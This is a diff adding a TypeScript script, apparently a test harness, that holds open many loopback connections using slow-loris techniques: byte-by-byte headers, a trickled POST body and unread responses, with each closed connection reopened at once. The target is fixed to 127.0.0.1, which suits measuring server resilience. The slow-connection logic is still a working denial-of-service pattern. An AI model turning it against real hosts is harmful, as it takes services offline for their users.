@@ -1,0 +1,67 @@
+import { connect } from "node:net";
+import { setPriority } from "node:os";
+import { createInterface } from "node:readline";
+
+// Each line begins an attack or, with no connections, ends it: {"port", "host", "kind", "peers", "each"}. Whoever is closed
+// comes again at once. The answer comes when the attack stands or has ended: how many connections are open, and were.
+interface Asked {
+  readonly port: number;
+  readonly host: string;
+  /** A head, or a body, of a byte every ten seconds; or an answer of which nothing is read. */
+  readonly kind: "head" | "body" | "read";
+  readonly peers: number;
+  readonly each: number;
+}
+
+setPriority(19); // the others, who are measured, come first
+const OPENED_PER_TICK = 10;
+const EVERY_MS = 10_000;
+let asked: Asked | undefined;
+let open = 0;
+let opened = 0;
+
+function begin(): void {
+  if (asked === undefined) return;
+  const { port, host, kind, peers } = asked;
+  const head = `Host: ${host}\r\n`;
+  const localAddress = `127.1.0.${1 + (opened % peers)}`;
+  const socket = connect({ port, host: "127.0.0.1", localAddress });
+  opened += 1;
+  open += 1;
+  let next = 0;
+  const send = (): void => void socket.write(kind === "head" ? (`GET / HTTP/1.1\r\n${head}`[next++] ?? "x") : "x");
+  const timer = kind === "read" ? undefined : setInterval(send, EVERY_MS);
+  socket.on("error", () => undefined);
+  socket.on("close", () => {
+    clearInterval(timer);
+    open -= 1;
+    setImmediate(begin);
+  });
+  if (kind === "head") send();
+  else if (kind === "body") socket.write(`POST / HTTP/1.1\r\n${head}Content-Length: 1000000\r\n\r\n`);
+  else socket.write(`GET /large HTTP/1.1\r\n${head}\r\n`);
+  if (kind !== "read") socket.resume();
+  sockets.add(socket);
+  socket.on("close", () => sockets.delete(socket));
+}
+
+const sockets: Set<ReturnType<typeof connect>> = new Set();
+const tick = (): Promise<void> => new Promise((done) => void setTimeout(done, 10));
+
+console.log("{}");
+for await (const line of createInterface({ input: process.stdin })) {
+  const next = JSON.parse(line) as Asked;
+  opened = 0;
+  if (next.each === 0) {
+    asked = undefined;
+    for (const socket of sockets) socket.destroy();
+    while (open > 0) await tick();
+  } else {
+    asked = next;
+    while (open < next.peers * next.each) {
+      for (let i = 0; i < OPENED_PER_TICK && open < next.peers * next.each; i++) begin();
+      await tick();
+    }
+  }
+  console.log(JSON.stringify({ open }));
+}
